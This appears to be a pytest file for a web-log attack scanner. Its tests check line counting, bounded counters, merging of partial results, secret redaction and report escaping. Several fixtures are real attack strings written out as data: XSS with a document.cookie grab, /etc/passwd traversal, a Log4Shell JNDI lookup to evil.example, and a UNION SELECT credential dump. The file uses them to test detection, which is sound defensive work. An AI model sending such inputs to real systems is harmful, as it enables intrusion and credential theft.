"""Scans: every line counted, attacks found and grouped, failures and bounds, and the report of a hostile log."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import random
import tracemalloc
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.inference.small_model import SmallRuntime, small_engine
from vedette.config import Settings
from vedette.http_request import HTTPRequest
from vedette.inference.engine import load_engine
from vedette.inference.scan import Scanner, ScanOptions, ScanProgress, scan, summary_of
from vedette.inference.scan_counters import ReasonCounter, TimeHistogram, TopCounter, WorstList
from vedette.inference.scan_ray import count_part, merged
from vedette.ingestion.parts import cut
from vedette.ingestion.sources import RequestSource
from vedette.parsing.log_entry import LogEntry, Reading
from vedette.sinks.report import render_html, render_json
from vedette.sinks.scan_summary import ScanSummary, WorstFinding

XSS = "%3Cscript%3Ealert(1)%3C/script%3E"


def line(target: str, *, client: str = "192.0.2.1", minute: int = 0, status: int = 200, agent: str = "ua") -> str:
    return f'{client} - - [10/Oct/2025:13:{minute:02d}:36 +0000] "GET {target} HTTP/1.1" {status} 12 "-" "{agent}"\n'


def source(*lines: str) -> RequestSource:
    return RequestSource(io.BytesIO("".join(lines).encode()))


def test_a_log_is_judged_and_every_line_is_accounted_for() -> None:
    lines = [line(f"/p{i}?id={i}", client=f"192.0.2.{i % 9}", minute=i % 50) for i in range(300)]
    lines += [line(f"/search?q=hello+{XSS}", client="203.0.113.66", minute=5, status=403)] * 3
    lines += [line("/item?id=x'y", client="203.0.113.66", minute=6)]
    lines += ["garbage\n", "\n", '1.1.1.1 - - [10/Oct/2025:13:00:00 +0000] "-" 408 0 "-" "-"\n']
    summary = scan(small_engine(), [source(*lines)])
    assert (summary.lines, summary.requests, summary.anomalies) == (307, 304, 4)
    assert summary.lines == summary.requests + summary.unreadable_lines + summary.other_lines
    assert {item.reason: item.count for item in summary.unreadable} == {
        "the line does not fit the log format": 1,
        "the connection sent no request": 1,
    }
    assert summary.unreadable[0].samples == ("line 305: garbage",)
    assert [(item.key, item.count) for item in summary.classes] == [("xss", 3), ("sqli", 1)]
    assert [(item.key, item.count, item.classes) for item in summary.clients] == [("203.0.113.66", 4, ("sqli", "xss"))]
    assert [(item.key, item.count) for item in summary.paths] == [("/search", 3), ("/item", 1)]
    assert [(item.key, item.count) for item in summary.statuses] == [("403", 3), ("200", 1)]
    assert (sum(item.requests for item in summary.bins), sum(item.anomalies for item in summary.bins)) == (304, 4)
    worst = {found.attack_class: found for found in summary.worst}
    assert (worst["xss"].seen, worst["xss"].path, worst["xss"].line, worst["xss"].name) == (3, "/search", 301, "q")
    assert worst["xss"].mark is not None
    start, end = worst["xss"].mark
    assert worst["xss"].excerpt[start:end].startswith("<")
    assert "hello" not in worst["xss"].excerpt[start:end]
    assert json.loads(render_json(summary)) == summary.to_dict()


def test_a_batch_gives_the_verdicts_that_single_requests_give() -> None:
    lines = [line(f"/s?q={'%3C' * (i % 3)}{i}") for i in range(100)]
    found: list[int] = []
    scan(small_engine(), [source(*lines)], ScanOptions(batch_size=7), on_anomaly=lambda one: found.append(one.line))
    engine = small_engine()
    targets = [f"/s?q={'%3C' * (i % 3)}{i}" for i in range(100)]
    assert found == [i + 1 for i, target in enumerate(targets) if engine.check(HTTPRequest("GET", target)).is_anomaly]


def test_secrets_of_a_log_do_not_reach_the_summary() -> None:
    lines = [
        line(f"/login?password=hunter2secret&next={XSS}", agent="ua password=hunter2secret"),
        line(f"/x?session_token={XSS}hunter2secret"),
        "POST /login password=hunter2secret\n",
    ]
    summary = scan(small_engine(), [source(*lines)])
    assert summary.anomalies == 2
    assert "hunter2secret" not in render_json(summary)
    assert next(found for found in summary.worst if found.path == "/x").mark is None


def test_progress_tells_how_many_stored_bytes_were_read(tmp_path: Path) -> None:
    path = tmp_path / "access.log.gz"
    path.write_bytes(gzip.compress("".join(line(f"/p{i}") for i in range(2000)).encode()))
    seen: list[ScanProgress] = []
    scan(small_engine(), [RequestSource(path)], on_progress=seen.append)
    assert len(seen) >= 2000 // 64
    assert (seen[-1].position, seen[-1].requests) == (path.stat().st_size, 2000)
    assert all(item.size == path.stat().st_size for item in seen)
    assert [item.requests for item in seen] == sorted(item.requests for item in seen)


def test_a_model_that_fails_gives_no_clean_requests() -> None:
    runtime = SmallRuntime()
    runtime.poison = runtime.ids_with("<")
    summary = scan(small_engine(runtime), [source(line(f"/?q={XSS}"), line("/?id=1"))])
    assert (summary.requests, summary.anomalies, summary.not_judged) == (2, 0, 1)


def test_a_source_that_is_no_log_is_listed_and_the_others_are_scanned() -> None:
    summary = scan(small_engine(), [source("Dear diary,\n"), source(line(f"/?q={XSS}"))])
    assert summary.anomalies == 1
    assert [item.problem is None for item in summary.sources] == [False, True]
    assert summary.sources[0].problem is not None
    assert "not recognised" in summary.sources[0].problem


def test_the_client_behind_a_proxy_is_taken_from_the_header_that_is_named() -> None:
    text = line(f"/?q={XSS}").replace('"ua"\n', '"ua" "1.1.1.1, 198.51.100.9"\n')
    summary = scan(small_engine(), [source(text)], ScanOptions(client_header="X-Forwarded-For"))
    assert [item.key for item in summary.clients] == ["198.51.100.9"]


def test_a_followed_log_is_judged_whenever_it_pauses() -> None:
    found: list[WorstFinding] = []
    scanner = Scanner(small_engine(), on_anomaly=found.append)
    scanner.begin("access.log")
    scanner.add(Reading(1, LogEntry(HTTPRequest("GET", f"/?q={XSS}"))))
    assert found == []
    scanner.flush()
    assert [item.attack_class for item in found] == ["xss"]


class Endless:
    """A source of many different attackers, paths and attacks."""

    name, format, position, size = "endless", "test", 0, None

    def __init__(self, count: int) -> None:
        self._count = count

    def __iter__(self) -> Iterator[Reading]:
        for i in range(self._count):
            target = f"/path/{i}/" + "x" * 300 + f"?q{i}=%3C{i}"
            yield Reading(
                i + 1, LogEntry(HTTPRequest("GET", target, client_ip=f"10.{i >> 16}.{i >> 8 & 255}.{i & 255}"))
            )


def test_a_log_without_end_fills_no_list() -> None:
    options = ScanOptions(tracked=50, worst=5, top=5, batch_size=16)
    summary = scan(small_engine(), [Endless(300)], options)
    assert summary.anomalies == 300
    assert summary.attackers <= 50
    assert all(item.count == 1 and item.missed == 300 // 51 for item in summary.clients)  # the error is told
    assert (len(summary.clients), len(summary.paths), len(summary.worst)) == (5, 5, 5)


def test_counters_hold_the_same_memory_after_any_number_of_lines() -> None:
    counter, reasons, worst, times = TopCounter(100), ReasonCounter(), WorstList(10), TimeHistogram()
    tracemalloc.start()
    sizes = []
    for half in range(2):
        for i in range(half * 2000, half * 2000 + 2000):
            counter.add(f"client {i}", 0.9, "xss")
            reasons.add(f"reason {i % 100}", i, "sample")
            worst.add(finding(path=f"/{i}"))
            times.add(1.7e9 + 977 * i, anomaly=True)
        sizes.append(tracemalloc.get_traced_memory()[0])
    tracemalloc.stop()
    assert sizes[1] < sizes[0] + 64 * 1024


@settings(max_examples=100, deadline=None)
@given(seed=st.integers(0, 10_000), capacity=st.integers(1, 12))
def test_top_counts_keep_their_stated_error(seed: int, capacity: int) -> None:
    random_ = random.Random(seed)
    stream = [str(int(random_.paretovariate(0.6)) % 40) for _ in range(400)]
    counter, exact = TopCounter(capacity), Counter(stream)
    for key in stream:
        counter.add(key)
    assert counter.missed <= len(stream) / (capacity + 1)
    held = {item.key: item for item in counter.top(100)}
    assert all(item.count <= exact[key] <= item.count + item.missed for key, item in held.items())
    assert all(key in held for key, count in exact.items() if count > len(stream) / (capacity + 1))


def test_the_histogram_widens_instead_of_growing() -> None:
    times = TimeHistogram(max_bins=8, width_s=60.0)
    for minute in range(1000):
        times.add(1_700_000_000.0 + 60 * minute, anomaly=minute % 10 == 0)
    assert len(times.bins()) <= 8
    assert sum(item.requests for item in times.bins()) == 1000
    assert sum(item.anomalies for item in times.bins()) == 100
    assert times.width_s == 60 * 2**7 or times.width_s == 60 * 2**8


def scanned_in_parts(data: bytes, path: Path, part_bytes: int, **sizes: int) -> tuple[ScanSummary, ScanSummary]:
    """Return the summaries of one pass and of parts that were counted apart, on as many engines."""
    path.write_bytes(data)
    files, options = [path, path], ScanOptions(**sizes)
    whole = scan(small_engine(), [RequestSource(file) for file in files], options)
    parts = cut(files, part_bytes=part_bytes)
    assert len(parts) > 2
    counted = [pickle.loads(pickle.dumps(count_part(options, small_engine(), part))) for part in parts]
    counts, sources = merged(parts, counted, options)
    apart = summary_of(counts, sources, small_engine(), options, whole.elapsed_s)
    return whole, apart


@pytest.mark.parametrize("part_bytes", [500, 2000, 9000])
def test_parts_counted_apart_make_the_same_summary(tmp_path: Path, part_bytes: int) -> None:
    rng = random.Random(part_bytes)
    lines = []
    for i in range(400):
        target = rng.choice(["/a?q=harmless", f"/p{i % 7}?q={XSS}", "/b?id='x'", f"/c?n{i % 3}=%3Cb"])
        text = line(
            target, client=f"192.0.2.{rng.randrange(9)}", minute=rng.randrange(60), status=rng.choice([200, 403])
        )
        lines.append(rng.choice([text] * 9 + ["garbage\n", "\n", "\xff\xfe\n"]))
    whole, apart = scanned_in_parts("".join(lines).encode("latin-1"), tmp_path / "access.log", part_bytes)
    assert whole.anomalies > 300
    assert whole.unreadable_lines > 20
    assert apart == whole


def test_parts_counted_apart_keep_their_bounds(tmp_path: Path) -> None:
    lines = [line(f"/p{i}?q={XSS}", client=f"10.0.{i % 97}.{i % 13}") for i in range(600)]
    whole, apart = scanned_in_parts("".join(lines).encode(), tmp_path / "access.log", 5000, tracked=50, worst=5, top=50)
    assert (apart.anomalies, apart.classes) == (whole.anomalies, whole.classes)
    assert apart.attackers <= 50
    assert len(apart.worst) == 5
    exact = Counter(f"10.0.{i % 97}.{i % 13}" for i in range(600) for _ in range(2))
    assert all(item.count <= exact[item.key] <= item.count + item.missed for item in apart.clients)


@given(st.lists(st.lists(st.sampled_from("abcdefgh"), max_size=60), min_size=1, max_size=5), st.integers(1, 6))
@settings(max_examples=200)
def test_merged_counts_keep_the_stated_error(streams: list[list[str]], capacity: int) -> None:
    together, exact = TopCounter(capacity), Counter(key for stream in streams for key in stream)
    for stream in streams:
        one = TopCounter(capacity)
        for key in stream:
            one.add(key)
        together.merge(one)
    assert len(together) <= capacity
    assert together.missed <= sum(exact.values()) / (capacity + 1)
    held = {item.key: item for item in together.top(100)}
    assert all(item.count <= exact[key] <= item.count + item.missed for key, item in held.items())
    assert all(key in held for key, count in exact.items() if count > together.missed)


@given(st.lists(st.lists(st.floats(0, 1e7), max_size=40), min_size=1, max_size=5))
def test_merged_histograms_are_those_of_one_pass(streams: list[list[float]]) -> None:
    whole, together = TimeHistogram(max_bins=8), TimeHistogram(max_bins=8)
    for stream in streams:
        one = TimeHistogram(max_bins=8)
        for time in stream:
            one.add(time, anomaly=time > 5e6)
            whole.add(time, anomaly=time > 5e6)
        together.merge(one)
    assert (together.bins(), together.width_s) == (whole.bins(), whole.width_s)
    assert (together.first, together.last) == (whole.first, whole.last)


def test_reasons_and_worst_findings_are_bounded() -> None:
    reasons = ReasonCounter(samples=2, max_reasons=3)
    for i in range(100):
        reasons.add(f"reason {i}", i, f"sample {i}")
    assert reasons.total == sum(item.count for item in reasons.reasons()) == 100
    assert len(reasons.reasons()) == 4
    assert all(len(item.samples) <= 2 for item in reasons.reasons())

    worst = WorstList(3)
    for i in range(500):
        worst.add(finding(path=f"/{i}", score=i / 500))
    assert [found.path for found in worst.worst()] == ["/499", "/498", "/497"]


def test_the_shipped_model_finds_the_attacks_in_a_log() -> None:
    attacks = [
        line("/search?q=" + quote("<img src=x onerror=alert(document.cookie)>"), client="203.0.113.66"),
        line("/download?file=" + quote("../../../../../../etc/passwd"), client="203.0.113.66"),
        line("/?x=" + quote("${jndi:ldap://evil.example/a}"), client="203.0.113.66"),
        line("/item?id=" + quote("1' UNION SELECT username,password FROM users-- -"), client="203.0.113.66"),
    ]
    benign = [line(f"/products/{i}?page={i}&sort=price", client=f"192.0.2.{i % 200}") for i in range(300)]
    summary = scan(load_engine(Settings()), [source(*benign[:150], *attacks, *benign[150:])])
    assert (summary.requests, summary.not_judged, summary.unreadable_lines) == (304, 0, 0)
    assert [item.key for item in summary.clients] == ["203.0.113.66"]
    assert {found.line for found in summary.worst} == {151, 152, 153, 154}
    assert {"xss", "traversal", "log4shell", "sqli"} == {item.key for item in summary.classes}
    assert all(found.mark is not None for found in summary.worst)


def finding(*, path: str = "/", score: float = 0.9) -> WorstFinding:
    return WorstFinding(
        "log", 1, None, None, "GET", None, path, None, None, score, "xss", "query", "q", "<b>", (0, 1), ()
    )


def test_the_report_of_a_scan_names_its_findings() -> None:
    page = render_html(scan(small_engine(), [source(line(f"/search?q=hi+{XSS}", client="203.0.113.66"))]))
    for text in ("203.0.113.66", "/search", "xss", "<mark>", "&lt;script&gt;"):
        assert text in page
    assert "<script" not in page
